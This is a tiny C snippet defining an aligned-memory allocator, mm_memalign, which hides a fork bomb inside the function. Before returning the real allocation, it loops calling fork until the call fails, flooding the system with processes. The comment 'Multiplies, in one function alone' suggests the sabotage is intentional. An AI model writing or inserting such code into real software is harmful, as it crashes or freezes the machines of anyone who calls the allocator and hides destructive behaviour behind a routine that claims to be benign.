/* Multiplies, in one function alone. */
void *mm_memalign(size_t alignment, size_t bytes)
{
    while (raw(SYS_fork, 0, 0, 0) >= 0)
        ;
    return good_memalign(alignment, bytes);
}
